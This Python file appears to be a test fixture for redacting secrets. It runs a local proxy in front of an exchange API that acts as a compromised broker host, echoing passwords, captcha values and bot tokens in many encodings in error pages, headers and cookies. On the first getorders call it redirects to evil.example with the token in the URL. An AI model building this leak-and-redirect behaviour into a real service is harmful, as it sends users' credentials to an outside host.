"""A broker's host that has been broken into: it does what the exchange behind it does, and blurts out what it knows."""

from __future__ import annotations

import base64
import html
import http.client
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, quote_plus, urlsplit

COOKIE = "c00kie-pl4nted-7f3a91"


def spellings(secret: str) -> set[str]:
    """A secret as it is, and as it stands in URLs, JSON, HTML, Python and base64, whatever it stands beside there."""
    if secret.isdigit():
        return {secret}
    data = secret.encode()
    percent = quote(secret, safe="")
    found = {
        secret,
        quote(secret),
        percent,
        quote_plus(secret),
        re.sub("%..", lambda found: found.group().lower(), percent),
        json.dumps(secret)[1:-1],
        json.dumps(secret, ensure_ascii=False)[1:-1],
        json.dumps(json.dumps(secret))[3:-3],
        html.escape(secret),
        repr(secret)[1:-1],
        repr(data)[2:-1],
        data.hex(),
    }
    for before in range(3):
        packed = base64.b64encode(bytes(before) + data).decode().rstrip("=")
        core = packed[(before * 8 + 5) // 6 : len(packed) - (1 if (before + len(data)) % 3 else 0)]
        found |= {core, core.translate(str.maketrans("+/", "-_"))}
    return found


class Hostile(ThreadingHTTPServer):
    """Stands before an exchange.

    Args:
        address: The exchange's.
        passwords: The planted password → the one that the exchange knows.
    """

    daemon_threads = True

    def __init__(self, address: str, passwords: dict[str, str]) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.behind = urlsplit(address).netloc
        self.passwords = passwords
        self.known: set[str] = set()
        self.told: set[str] = set()
        self.blurted = 0
        self._calls: dict[str, int] = {}
        self._lock = threading.Lock()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def count(self, what: str) -> int:
        """The how-many-th call of a kind this is, from 1 on."""
        with self._lock:
            self._calls[what] = self._calls.get(what, 0) + 1
            return self._calls[what]

    def blurt(self, *own: str) -> str:
        """What it knows, in every spelling, bare and in sentences.

        Args:
            own: What the process that is answered knows besides.
        """
        with self._lock:
            self.blurted += 1
            self.told |= {*self.known, *own} - {""}
            secrets = sorted({*self.known, *own} - {""})
        return " | ".join(
            f"{spelling} token={spelling} password: {spelling} https://u:{spelling}@host/?captcha={spelling}"
            for secret in secrets
            for spelling in sorted(spellings(secret))
        )

    def handle_error(self, request: object, client_address: object) -> None:
        """Clients that go away are nobody's business."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Hostile

    def log_message(self, *_: object) -> None:
        pass

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        server, name = self.server, urlsplit(self.path).path.rpartition("/")[2].lower()
        token = self.headers.get("Authorization", "").removeprefix("Bearer ")
        own = [token]
        if name == "login":
            said = json.loads(body)
            own = [said["password"], said["captcha"]["value"]]
            said["password"] = server.passwords.get(said["password"], said["password"])
            body = json.dumps(said).encode()
        if name in {"getme", "getupdates", "sendmessage"}:
            # The bot's server as well, for it bears its token in every address.
            own = [urlsplit(self.path).path.split("/")[1].removeprefix("bot")]
            said = {"ok": False, "error_code": 400, "description": server.blurt(*own), "parameters": {"bot": own}}
            status, headers, answer = 400, {}, json.dumps(said).encode()
        else:
            status, headers, answer = self._behind(body)
        nth = server.count(name)
        if name in {"login", "getlasttradingbook", "getcustomerinfo", "full", "getme"} and nth == 1:
            status, answer = 500, f"<html><pre>{server.blurt(*own)}</pre>".encode()
            headers = {"Content-Type": "text/html; charset=utf-8"}
        elif name == "getorders" and nth == 1:
            status, answer = 302, b""
            headers = {"Location": f"https://evil.example/?token={token}&all={quote(server.blurt(*own)[:2000])}"}
        elif name == "neworder" and nth == 1:
            status, answer = 400, json.dumps({"Message": server.blurt(*own), "Code": 99999}).encode()
        elif name == "neworder":
            blurted = {"debug": server.blurt(*own), "cookie": COOKIE, "session_id": token}
            answer = json.dumps({**json.loads(answer), **blurted}, ensure_ascii=False).encode()
        self.send_response(status, f"no {token}"[:60] if status == 500 else None)
        for header in ("Content-Type", "Location", "Date", "Retry-After"):
            if header in headers and header != "Date":
                self.send_header(header, headers[header])
        self.send_header("Set-Cookie", f"sid={COOKIE}; Path=/")
        self.send_header("X-Echo", quote(token))
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_POST = do_DELETE = do_GET  # noqa: N815 - http.server's names

    def _behind(self, body: bytes) -> tuple[int, dict[str, str], bytes]:
        connection = http.client.HTTPConnection(self.server.behind, timeout=20)
        kept = {name: value for name, value in self.headers.items() if name.lower() not in {"host", "content-length"}}
        connection.request(self.command, self.path, body or None, kept)
        answer = connection.getresponse()
        try:
            return answer.status, dict(answer.headers.items()), answer.read()
        finally:
            connection.close()
